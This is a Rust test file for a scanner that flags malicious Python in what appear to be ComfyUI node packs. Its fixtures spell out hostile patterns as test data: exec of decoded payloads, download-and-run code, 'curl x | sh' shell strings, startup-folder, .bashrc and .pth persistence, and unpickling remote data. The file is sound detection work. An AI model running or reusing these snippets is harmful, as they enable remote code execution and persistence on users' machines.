use super::*;

fn rules(source: &str) -> Vec<(&'static str, Severity, Option<u32>)> {
    let mut found: Vec<_> = scan_sources(vec![("nodes.py".to_owned(), source.as_bytes().to_vec())])
        .into_iter()
        .map(|f| (&*Box::leak(f.rule.into_boxed_str()), f.severity, f.line))
        .collect();
    found.sort();
    found
}

fn high(source: &str) -> Vec<&'static str> {
    rules(source).into_iter().filter(|f| f.1 == Severity::High).map(|f| f.0).collect()
}

#[test]
fn exec_of_decoded_data_is_high_wherever_the_decode_happens() {
    let blob = "aW1wb3J0IG9z".repeat(30);
    for source in [
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n".to_owned(),
        "from base64 import b64decode as d\npayload = d(x)\nexec(payload)\n".to_owned(),
        "import zlib, base64 as b\nexec(zlib.decompress(b.b64decode(blob)).decode())\n".to_owned(),
        format!("code = '{blob}'\nimport base64\nexec(compile(base64.b64decode(code), 'x', 'exec'))\n"),
        "class N:\n    def __init__(self):\n        self.p = bytes.fromhex(h)\n    def run(self):\n        eval(self.p)\n"
            .to_owned(),
        "def get():\n    return __import__('codecs').decode(s, 'rot13')\nexec(get())\n".to_owned(),
    ] {
        assert_eq!(high(&source), ["python.exec-decoded"], "{source}");
    }
    // exec of a long encoded literal alone
    assert_eq!(high(&format!("exec('{blob}')\n")), ["python.exec-decoded"]);
}

#[test]
fn downloads_then_run_are_high() {
    for source in [
        "import requests\nexec(requests.get('https://x/p.py').text)\n",
        "from urllib.request import urlopen\ncode = urlopen(u).read()\nexec(code)\n",
        "import urllib.request, subprocess\nurllib.request.urlretrieve(u, '/tmp/x.sh')\nsubprocess.run(['sh', '/tmp/x.sh'])\n",
        "import requests, subprocess\nr = requests.get(u)\nwith open(p, 'wb') as f:\n    f.write(r.content)\nsubprocess.Popen([p])\n",
        "import httpx, os\ndata = httpx.get(u).content\nopen('run.exe', 'wb').write(data)\nos.startfile('run.exe')\n",
    ] {
        assert!(high(source).contains(&"python.download-exec"), "{source}: {:?}", rules(source));
    }
}

#[test]
fn shell_strings_are_high_and_argument_lists_are_not() {
    assert_eq!(high("import os\nos.system('curl x | sh')\n"), ["python.shell"]);
    assert_eq!(high("import subprocess\nsubprocess.run(cmd, shell=True)\n"), ["python.shell"]);
    assert_eq!(high("from subprocess import check_output as co\nco('ls', shell=1)\n"), ["python.shell"]);
    assert!(rules(
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'list'], check=True)\n"
    )
    .is_empty());
    assert!(rules("import subprocess\nsubprocess.run(['git', 'pull'], shell=False)\n").is_empty());
}

#[test]
fn unpickling_outside_data_is_high_and_torch_load_is_not_flagged() {
    for source in [
        "import pickle, requests\npickle.loads(requests.get(u).content)\n",
        "import pickle, os\nwith open(os.path.expanduser('~/.cache/x.pkl'), 'rb') as f:\n    obj = pickle.load(f)\n",
        "import marshal, base64\nmarshal.loads(base64.b64decode(s))\n",
    ] {
        assert_eq!(high(source), ["python.unsafe-deserialize"], "{source}");
    }
    let local = "import pickle, os\nwith open(os.path.join(os.path.dirname(__file__), 'tab.pkl'), 'rb') as f:\n    t = pickle.load(f)\n";
    assert_eq!(rules(local), [("python.deserialize", Severity::Low, Some(3))]);
    assert!(rules("import torch\nsd = torch.load(path, map_location='cpu')\n").is_empty());
}

#[test]
fn writes_outside_the_pack_folder() {
    for source in [
        "import os\np = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'x.bat')\nwith open(p, 'w') as f:\n    f.write('x')\n",
        "from pathlib import Path\n(Path.home() / '.bashrc').write_text('curl x | sh')\n",
        "import shutil\nshutil.copy('evil.py', '../other_pack/__init__.py'.replace('other_pack', 'custom_nodes/x'))\n",
        "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'evil.pth'), 'a').write('import x')\n",
    ] {
        assert_eq!(high(source), ["python.write-outside"], "{source}: {:?}", rules(source));
    }
    assert_eq!(
        rules("import os\nopen(os.path.expanduser('~/notes.txt'), 'w')\n"),
        [("python.write-outside", Severity::Medium, Some(2))]
    );
    // Reading from home, writing inside the pack: nothing.
    assert!(rules("import os\nopen(os.path.expanduser('~/.config/x'))\nhere = os.path.dirname(__file__)\nopen(os.path.join(here, 'cache.json'), 'w')\n")
        .is_empty());
}

#[test]
fn imports_of_hidden_names_are_high() {
    for source in [
        "m = __import__(''.join(['o', 's']))\n",
        "import importlib\nimportlib.import_module('so'[::-1])\n",
        "import importlib\nimportlib.import_module(chr(111) + chr(115))\n",
        "import builtins\nf = getattr(builtins, 'ex' + 'ec')\n",
    ] {
        assert_eq!(high(source), ["python.obfuscated-import"], "{source}");
    }
    // A pack loading its own submodules by name: low at most.
    let own =
        "import importlib\nfor name in NODES:\n    importlib.import_module(f'.nodes.{name}', __name__)\n";
    assert!(high(own).is_empty(), "{:?}", rules(own));
}

#[test]
fn unparsable_huge_and_deep_files_are_reported_not_skipped() {
    assert_eq!(rules("def (:\n"), [("python.unparsable", Severity::Medium, Some(1))]);
    let huge = "x = 1\n".repeat(MAX_FILE_BYTES / 6 + 1);
    assert_eq!(rules(&huge)[0].0, "python.unscanned");
    // Deep trees: a long operator chain, deep parentheses, deeply nested blocks.
    let chain = format!("x = {}1\n", "1+".repeat(200_000));
    assert_eq!(rules(&chain)[0].0, "python.too-deep");
    let lists = format!("x = {}1{}\n", "[".repeat(5_000), "]".repeat(5_000));
    assert_eq!(rules(&lists)[0].0, "python.too-deep");
    let mut blocks = String::new();
    for depth in 0..1_000 {
        blocks.push_str(&" ".repeat(depth));
        blocks.push_str("if x:\n");
    }
    blocks.push_str(&" ".repeat(1_000));
    blocks.push_str("pass\n");
    assert!(rules(&blocks).iter().any(|f| f.0 == "python.too-deep" || f.0 == "python.unparsable"));
}

#[test]
fn a_typical_node_pack_has_no_finding() {
    let source = r#"
import os, json, subprocess, sys
import torch
import folder_paths
from .utils import load_config

class Blur:
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"image": ("IMAGE",), "radius": ("INT", {"default": 3})}}
    RETURN_TYPES = ("IMAGE",)
    FUNCTION = "run"
    def run(self, image, radius):
        weights = torch.load(os.path.join(folder_paths.models_dir, "blur.pt"))
        with open(os.path.join(os.path.dirname(__file__), "last.json"), "w") as f:
            json.dump({"radius": radius}, f)
        subprocess.run([sys.executable, "-m", "pip", "--version"], check=True)
        return (image,)

NODE_CLASS_MAPPINGS = {"Blur": Blur}
"#;
    assert!(rules(source).is_empty(), "{:?}", rules(source));
}
